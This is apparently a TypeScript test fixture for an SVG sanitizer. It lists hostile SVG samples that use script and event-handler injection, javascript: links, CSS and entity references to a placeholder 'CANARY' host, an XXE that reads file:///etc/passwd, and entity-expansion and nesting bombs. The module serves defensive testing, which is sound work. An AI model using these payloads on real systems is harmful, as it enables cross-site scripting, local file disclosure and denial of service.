/**
 * SVG files that try to run a script, to load external resources, or to exhaust resources. `CANARY` is replaced by the
 * URL of a server that must never be requested; a successful script calls `probe()`.
 */
export interface HostileSvg {
  readonly name: string;
  readonly source: string | Buffer;
}

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const SHAPE = '<rect id="r" width="100" height="100" fill="#c00"/>';

/** A payload inside a valid logo, so that rejecting an image without shapes cannot hide a gap. */
function inLogo(payload: string, rootAttributes = ''): string {
  return `<svg ${NS} ${XLINK} viewBox="0 0 100 100" ${rootAttributes}>${SHAPE}${payload}</svg>`;
}

const SCRIPTS: Readonly<Record<string, string>> = {
  'script element': inLogo('<script>probe()</script>'),
  'script in CDATA': inLogo('<script><![CDATA[probe()]]></script>'),
  'script by href': inLogo('<script href="CANARY/a.js"/>'),
  'script by xlink:href': inLogo('<script xlink:href="CANARY/b.js"/>'),
  'script by data address': inLogo('<script href="data:text/javascript,probe()"/>'),
  'script with module type': inLogo('<script type="module">probe()</script>'),
  'script under a link': inLogo('<a><script>probe()</script></a>'),
  'script in defs and use': inLogo('<defs><g id="g"><script>probe()</script></g></defs><use href="#g"/>'),
  'script in title': inLogo('<title><script>probe()</script></title>'),
  'script in desc as escaped text': inLogo('<desc>&lt;script&gt;probe()&lt;/script&gt;</desc>'),
  'script in style': inLogo('<style><script>probe()</script></style>'),
  'script by prefixed SVG':
    '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:rect width="9" height="9"/>' +
    '<s:script>probe()</s:script></s:svg>',
  'script by prefixed XHTML': inLogo('<h:script xmlns:h="http://www.w3.org/1999/xhtml">probe()</h:script>'),
  'script by default XHTML': inLogo('<script xmlns="http://www.w3.org/1999/xhtml">probe()</script>'),
  'XHTML image with onerror': inLogo(
    '<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="CANARY/x" onerror="probe()"/>',
  ),
  'XHTML iframe': inLogo('<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.probe()"/>'),
  'SVG inside XHTML inside SVG': inLogo(
    `<div xmlns="http://www.w3.org/1999/xhtml"><svg ${NS}><script>probe()</script></svg></div>`,
  ),
  'namespace by character references': inLogo(
    '<x:script xmlns:x="http&#58;//www.w3.org/1999/xhtml">probe()</x:script>',
  ),
  'SVG namespace rebound to another prefix': inLogo(
    '<q:script xmlns:q="http://www.w3.org/2000/svg">probe()</q:script>',
  ),
  'XHTML as the root': `<html xmlns="http://www.w3.org/1999/xhtml"><script>probe()</script></html>`,
  'XSLT as a logo':
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><svg ' +
    `${NS}>${SHAPE}<xsl:stylesheet id="s" version="1.0" ` +
    'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script ' +
    'xmlns="http://www.w3.org/1999/xhtml">probe()</script></xsl:template></xsl:stylesheet>' +
    '</svg>',
  'processing instruction with markup': inLogo('<?x <script>probe()</script> ?>'),
  'comment that closes early': inLogo('<!-- --><script>probe()</script><!-- -->'),
  'CDATA that hides markup': inLogo('<text y="20"><![CDATA[</text><script>probe()</script>]]></text>'),
  'CDATA end split': inLogo('<style><![CDATA[]]]]><![CDATA[></style><script>probe()</script>]]></style>'),
  'escaped quote in an attribute': inLogo('<path d="M0 0&quot; onload=&quot;probe()"/>'),
  'escaped markup in an id': inLogo('<g id="&quot;&gt;&lt;script&gt;probe()&lt;/script&gt;"/>'),
  'escaped markup in a font name': inLogo(
    '<text y="9" font-family="&apos;&quot;&gt;&lt;script&gt;probe()&lt;/script&gt;">a</text>',
  ),
  'mutation through style and title': inLogo(
    '<style><title title="&lt;/style>&lt;script>probe()&lt;/script>"/></style><title>&lt;/title>&lt;img onerror=probe()></title>',
  ),
  'mutation through noscript': inLogo(
    '<noscript><p title="&lt;/noscript>&lt;script>probe()&lt;/script>"/></noscript>',
  ),
};

const EVENTS: Readonly<Record<string, string>> = {
  'onload on the root': inLogo('', 'onload="probe()"'),
  'onload on a shape': inLogo('<g onload="probe()"/>'),
  'onclick, onmouseover, onfocusin': inLogo(
    '<rect width="100" height="100" onclick="probe()" onmouseover="probe()" onmousemove="probe()" tabindex="0" onfocusin="probe()"/>',
  ),
  'onerror on an image': inLogo('<image href="CANARY/none.png" onerror="probe()"/>'),
  'onload in capitals': inLogo('<g ONLOAD="probe()" OnLoad="probe()"/>'),
  'onload by character references': inLogo('<g onload="&#112;robe&#40;&#41;"/>'),
  'event attribute with a prefix': inLogo(
    '<g xmlns:p="http://www.w3.org/2000/svg" p:onload="probe()"/>',
    'xmlns:e="e" e:onload="probe()"',
  ),
  'ev:listener': inLogo(
    '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#h"/>' +
      '<handler id="h" type="application/ecmascript">probe()</handler>',
  ),
  'handler element': inLogo(
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">probe()</handler>',
  ),
  'SMIL onbegin': inLogo('<animate attributeName="x" dur="1s" onbegin="probe()"/>'),
  'SMIL onend and onrepeat': inLogo(
    '<set attributeName="x" to="1" dur="10ms" onend="probe()" onrepeat="probe()"/>',
  ),
  'animate event attribute': inLogo(
    '<rect width="9" height="9"><animate attributeName="onload" to="probe()"/></rect>',
  ),
  'set event attribute': inLogo(
    '<rect width="90" height="90"><set attributeName="onmouseover" to="probe()"/></rect>',
  ),
  'animateMotion, animateTransform, discard': inLogo(
    '<animateMotion onbegin="probe()"/><animateTransform attributeName="transform" onbegin="probe()"/><discard onbegin="probe()"/>',
  ),
  'onresize, onscroll, onunload': inLogo(
    '',
    'onresize="probe()" onscroll="probe()" onunload="probe()" onfocus="probe()"',
  ),
};

const LINKS: Readonly<Record<string, string>> = {
  'javascript link': inLogo('<a href="javascript:probe()"><rect width="100" height="100"/></a>'),
  'javascript xlink': inLogo('<a xlink:href="javascript:probe()"><rect width="100" height="100"/></a>'),
  'javascript with tab and line break': inLogo(
    '<a xlink:href="java&#9;scr&#10;ipt&#58;probe()"><rect width="100" height="100"/></a>',
  ),
  'javascript after a control character': inLogo(
    '<a href="&#x1;javascript:probe()"><rect width="9" height="9"/></a>',
  ),
  'javascript after blanks': inLogo(
    '<a href=" &#13; JaVaScRiPt:probe()"><rect width="100" height="100"/></a>',
  ),
  'animated href': inLogo(
    '<a><animate attributeName="href" values="javascript:probe()" fill="freeze"/><rect width="100" height="100"/></a>',
  ),
  'animated xlink:href': inLogo(
    '<a><set attributeName="xlink:href" to="javascript:probe()"/><rect width="100" height="100"/></a>',
  ),
  'use of a foreign file': inLogo('<use href="CANARY/sprite.svg#a"/>'),
  'use of a data address': inLogo(
    `<use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'>&lt;script>probe()&lt;/script>&lt;/svg>#x"/>`,
  ),
  'use of a javascript address': inLogo('<use xlink:href="javascript:probe()"/>'),
  'both spellings of href': inLogo(
    '<use href="#r" xlink:href="CANARY/both.svg#a"/><use xlink:href="#r" href="CANARY/two.svg#a"/>',
  ),
  'foreign xlink prefix': inLogo(
    '<use xmlns:l="http://www.w3.org/1999/xlink" l:href="CANARY/prefix.svg#a"/>',
  ),
  'animated use': inLogo(
    '<use href="#r"><animate attributeName="href" to="CANARY/anim.svg#a" dur="1s"/></use>',
  ),
  'gradient by foreign href': inLogo(
    '<linearGradient id="l" href="CANARY/grad.svg#g"/><circle r="9" fill="url(#l)"/>',
  ),
  'textPath by foreign href': inLogo('<text><textPath href="CANARY/path.svg#p">words</textPath></text>'),
  'mpath, cursor, tref': inLogo(
    '<mpath href="CANARY/m#a"/><cursor href="CANARY/c.cur"/><text><tref href="CANARY/t#t"/></text>',
  ),
  'protocol-relative and backslash addresses': inLogo(
    '<use href="//CANARYHOST/a#b"/><use href="\\\\CANARYHOST\\a#b"/>',
  ),
  'xml:base turns a fragment outward': inLogo(
    '<g xml:base="CANARY/base.svg"><use href="#r"/></g>',
    'xml:base="CANARY/root.svg"',
  ),
  'XHTML base element': inLogo('<base xmlns="http://www.w3.org/1999/xhtml" href="CANARY/"/><use href="#r"/>'),
  'XHTML link and meta refresh': inLogo(
    '<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="CANARY/l.css"/>' +
      '<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;' +
      'url=CANARY/m"/>',
  ),
};

const FOREIGN: Readonly<Record<string, string>> = {
  'foreignObject with script': inLogo(
    '<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">' +
      '<script>probe()</script><img src="CANARY/f.png" onerror="probe()"/></body></foreignObject>',
  ),
  'foreignObject with iframe srcdoc': inLogo(
    '<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" ' +
      'srcdoc="&lt;script>parent.probe()&lt;/script>"/></foreignObject>',
  ),
  'foreignObject in switch': inLogo(
    '<switch><foreignObject requiredExtensions="http://www.w3.org/1999/xhtml" width="9" ' +
      'height="9"><h:script xmlns:h="http://www.w3.org/1999/xhtml">probe()</h:script>' +
      '</foreignObject><g/></switch>',
  ),
  'embed, object, video, audio': inLogo(
    '<embed src="CANARY/e.svg"/><object data="CANARY/o.svg"/><video ' +
      'xmlns="http://www.w3.org/1999/xhtml" src="CANARY/v.mp4" onerror="probe()"/><audio ' +
      'xmlns="http://www.w3.org/1999/xhtml" src="CANARY/a.mp3"/>',
  ),
  'external image': inLogo(
    '<image href="CANARY/i.png" width="9" height="9"/><image xlink:href="CANARY/j.png" width="9" height="9"/>',
  ),
  'image with a data SVG': inLogo(
    '<image width="9" height="9" href="data:image/svg+xml;' +
      'base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icHJvYmUoKSIvPg=="/>',
  ),
  feImage: inLogo(
    '<filter id="f"><feImage href="CANARY/fe.png"/></filter><rect width="9" height="9" filter="url(#f)"/>',
  ),
  'filter by foreign address': inLogo('<rect width="9" height="9" filter="url(CANARY/f.svg#f)"/>'),
  'font-face-uri and color-profile': inLogo(
    '<font-face><font-face-src><font-face-uri href="CANARY/font.svg#f"/></font-face-src>' +
      '</font-face><color-profile name="c" href="CANARY/c.icc"/>',
  ),
};

const STYLES: Readonly<Record<string, string>> = {
  'at-import': inLogo('<style>@import url("CANARY/a.css");</style>'),
  'at-import as a string': inLogo("<style>@import 'CANARY/b.css'; rect{fill:red}</style>"),
  'at-import in CDATA and comment': inLogo('<style><![CDATA[/**/@\\69mport url(CANARY/c.css);]]></style>'),
  'at-font-face': inLogo(
    '<style>@font-face{font-family:x;src:url(CANARY/f.woff2)}text{font-family:x}</style><text y="20">a</text>',
  ),
  'background and border images': inLogo(
    '<style>svg{background:url(CANARY/bg.png);border-image:url(CANARY/bi.png) 1;list-style-image:url(CANARY/li.png)}</style>',
    'style="background-image:url(CANARY/root.png);content:url(CANARY/ct.png)"',
  ),
  'fill by foreign url': inLogo(
    '<rect width="9" height="9" fill="url(CANARY/p.svg#p)" style="fill:url(CANARY/q.svg#q)"/>',
  ),
  'mask and clip by foreign url': inLogo(
    '<rect width="9" height="9" mask="url(CANARY/m.svg#m)" clip-path="url(\'CANARY/c.svg#c\')" ' +
      'style="mask-image:url(CANARY/mi.png);-webkit-mask:url(CANARY/wm.png)"/>',
  ),
  'escaped url function': inLogo(
    '<rect width="9" height="9" style="fill:\\75rl(CANARY/e.svg#e);filter:u\\72l(CANARY/e2#e)"/>',
  ),
  'url with comment and blanks': inLogo(
    '<rect width="9" height="9" style="fill:/**/url(  CANARY/w.svg#w  );mask:url(/**/CANARY/x#x)"/>',
  ),
  'image-set and cross-fade': inLogo(
    "<g style=\"background:image-set('CANARY/s.png' 1x);" +
      'mask:-webkit-image-set(url(CANARY/t.png) 1x);cursor:url(CANARY/u.cur),auto"><rect ' +
      'width="9" height="9"/></g>',
  ),
  'cursor by url': inLogo(
    '<rect width="100" height="100" cursor="url(CANARY/c.cur),auto" style="cursor:url(CANARY/d.cur),auto"/>',
  ),
  'expression, behavior, -moz-binding': inLogo(
    '<rect width="9" height="9" style="width:expression(probe());behavior:url(CANARY/b.htc);-moz-binding:url(CANARY/x.xml#x)"/>',
  ),
  'javascript in url': inLogo(
    '<rect width="9" height="9" style="fill:url(javascript:probe());background:url(javascript:probe())"/>',
  ),
  'style sheet that leaves its element': inLogo(
    '<style>rect{fill:red}&lt;/style>&lt;script>probe()&lt;/script></style>',
  ),
  'selector with markup': inLogo(
    '<style>rect[a="&lt;/style>&lt;script>probe()&lt;/script>"]{fill:red}</style>',
  ),
  'custom property with url': inLogo(
    '<style>:root{--u:url(CANARY/v.png)}rect{background:var(--u);fill:var(--u)}</style>',
  ),
  'media rule with import inside': inLogo(
    '<style>@media all{rect{background:url(CANARY/me.png)}}@supports (fill:red){svg{background:url(CANARY/su.png)}}</style>',
  ),
  'namespace rule': inLogo(
    '<style>@namespace url(CANARY/ns);@charset "x";@layer a{svg{background:url(CANARY/la.png)}}</style>',
  ),
  'animation by CSS': inLogo(
    '<style>@keyframes k{to{background:url(CANARY/k.png)}}svg{animation:k 1ms infinite}</style>',
    'onanimationstart="probe()"',
  ),
  'unclosed comment': inLogo('<style>/* rect{} </style><style>*/svg{background:url(CANARY/uc.png)}</style>'),
  'xml-stylesheet': `<?xml version="1.0"?><?xml-stylesheet href="CANARY/s.css" type="text/css"?>${inLogo('')}`,
  'xml-stylesheet with data': `<?xml-stylesheet href="data:text/css,svg{background:url(CANARY/d.png)}"?>${inLogo('')}`,
  'style attribute of presentation in url form': inLogo(
    '<path d="M0 0h9" marker-start="url(CANARY/k.svg#k)" stroke="url(//CANARYHOST/a#b) red"/>',
  ),
};

const ENTITIES: Readonly<Record<string, string | Buffer>> = {
  'external entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${inLogo('<text y="20">&x;</text>')}`,
  'external entity over the net': `<!DOCTYPE svg [<!ENTITY x SYSTEM "CANARY/xxe">]>${inLogo('<text y="20">&x;</text>')}`,
  'parameter entity': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "CANARY/pe.dtd"> %x;]>${inLogo('')}`,
  'external DTD': `<!DOCTYPE svg SYSTEM "CANARY/svg.dtd">${inLogo('')}`,
  'default attribute by DTD': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "probe()">]>${inLogo('')}`,
  'entity with markup': `<!DOCTYPE svg [<!ENTITY x "<script xmlns='http://www.w3.org/2000/svg'>probe()</script>">]>${inLogo('&x;')}`,
  'billion laughs': `<!DOCTYPE svg [<!ENTITY a "lol">${'bcdefghij'
    .split('')
    .map((name, index) => `<!ENTITY ${name} "${`&${'abcdefghi'[index]};`.repeat(10)}">`)
    .join('')}]>${inLogo('<text>&j;</text>')}`,
  'quadratic blow-up': `<!DOCTYPE svg [<!ENTITY a "${'a'.repeat(50_000)}">]>${inLogo(`<text>${'&a;'.repeat(1_000)}</text>`)}`,
  'HTML entity': inLogo('<text y="20">&nbsp;&constructor;&__proto__;</text>'),
  'XML 1.1': `<?xml version="1.1"?>${inLogo('<script>probe()</script>')}`,
  'UTF-16 little-endian': Buffer.from(`\uFEFF${inLogo('<script>probe()</script>')}`, 'utf16le'),
  'UTF-16 without a mark': Buffer.from(inLogo('<script>probe()</script>'), 'utf16le'),
  'UTF-7 declared': `<?xml version="1.0" encoding="UTF-7"?>${inLogo('+ADw-script+AD4-probe()+ADw-/script+AD4-')}`,
  'ISO-2022-JP declared': `<?xml version="1.0" encoding="iso-2022-jp"?>${inLogo('<text>\u001b$B</text>')}`,
  'overlong UTF-8': Buffer.concat([
    Buffer.from(`<svg ${NS}>`),
    Buffer.from([0xc0, 0xbc]),
    Buffer.from('script>probe()</svg>'),
  ]),
  'NUL in a tag name': inLogo('<scr\u0000ipt>probe()</scr\u0000ipt>'),
  'unclosed root': `<svg ${NS} onload="probe()"><script>probe()`,
  'two roots': `${inLogo('')}${inLogo('<script>probe()</script>')}`,
  'HTML behind the root': `${inLogo('')}<script>probe()</script>`,
  'duplicate attributes': `<svg ${NS} id="a" id="b" onload="probe()">${SHAPE}</svg>`,
  'unquoted attribute': `<svg ${NS} onload=probe()>${SHAPE}</svg>`,
};

const EMPTY_MASK = '<mask id="m0"><path d="M0 0h1"/></mask>';

const BOMBS: Readonly<Record<string, string>> = {
  'use doubled thirty times': inLogo(
    Array.from(
      { length: 30 },
      (_, n) => `<g id="u${n + 1}"><use href="#u${n}"/><use href="#u${n}"/></g>`,
    ).join('<g id="u0"><path d="M0 0h1"/></g>'),
  ),
  'use of itself': inLogo('<g id="me"><use href="#me"/></g>'),
  'use in a ring': inLogo('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
  'use of the root': inLogo('<use href="#root"/>', 'id="root"'),
  'pattern in pattern': inLogo(
    `<pattern id="p0" width="1" height="1"><path d="M0 0h1v1z"/></pattern>${Array.from(
      { length: 12 },
      (_, n) =>
        `<pattern id="p${n + 1}" width="1" height="1"><g fill="url(#p${n})">${'<path d="M0 0h1v1z"/>'.repeat(9)}</g></pattern>`,
    ).join('')}<path d="M0 0h9v9z" fill="url(#p12)"/>`,
  ),
  'masks by style sheet classes': inLogo(
    `<style>${Array.from({ length: 20 }, (_, n) => `.m${n}{mask:url(#m${n})}`).join('')}</style>${EMPTY_MASK}${Array.from(
      { length: 19 },
      (_, n) => `<mask id="m${n + 1}">${`<path class="m${n}" d="M0 0h1"/>`.repeat(4)}</mask>`,
    ).join('')}<path class="m19" d="M0 0h9v9z"/>`,
  ),
  'a thousand levels': inLogo('<g>'.repeat(1_000) + '</g>'.repeat(1_000)),
  'fifty thousand elements': inLogo('<g/>'.repeat(50_000)),
  'fifty thousand attributes': inLogo(
    `<g ${Array.from({ length: 50_000 }, (_, n) => `a${n}=""`).join(' ')}/>`,
  ),
  'long namespace on many attributes': inLogo(
    `<g xmlns:n="${'n'.repeat(300_000)}" ${Array.from({ length: 30_000 }, (_, n) => `n:a${n}=""`).join(' ')}/>`,
  ),
  'an attribute of a megabyte': inLogo(`<path d="${'M0 0 '.repeat(180_000)}"/>`),
  'many rules on many elements': inLogo(
    `<style>${'*{fill:red}'.repeat(4_000)}</style>${'<g/>'.repeat(9_000)}`,
  ),
  'unclosed comments in a style sheet': inLogo(`<style>${'/*'.repeat(400_000)}</style>`),
  'nested braces in a style sheet': inLogo(`<style>${'a{'.repeat(400_000)}</style>`),
  'long selector of classes': inLogo(`<style>${'.a'.repeat(400_000)}{fill:red}</style>`),
  'long list of selectors': inLogo(`<style>${'.a,'.repeat(300_000)}.b{fill:red}</style>`),
  'bad value after many blanks': inLogo(`<path style="fill:${' '.repeat(15_000)}!"/>`.repeat(50)),
};

/** All hostile files, by the attack they try. */
export const HOSTILE_SVGS: readonly HostileSvg[] = [
  SCRIPTS,
  EVENTS,
  LINKS,
  FOREIGN,
  STYLES,
  ENTITIES,
  BOMBS,
].flatMap((group) => Object.entries<string | Buffer>(group).map(([name, source]) => ({ name, source })));
